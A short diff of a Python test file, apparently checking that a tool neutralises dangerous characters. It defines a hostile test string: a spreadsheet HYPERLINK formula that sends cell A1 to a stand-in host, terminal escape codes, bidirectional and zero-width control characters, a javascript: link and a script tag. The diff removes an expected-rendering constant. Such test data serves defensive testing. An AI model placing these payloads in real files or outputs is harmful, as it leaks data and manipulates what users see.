@@ -35,7 +35,6 @@ STEERING = [
 HOSTILE = (
     '=HYPERLINK("http://x.example/?"&A1)\x1b]0;X\x07\x1b[2J\u202e\u200b [md](javascript:alert(1))<script>'
 )
-SHOWN = '=HYPERLINK("http://x.example/?"&A1)<U+001B>]0;X<U+0007><U+001B>[2J<U+202E><U+200B> [md]'
 
 
 @pytest.mark.parametrize("character", STEERING, ids=ascii)
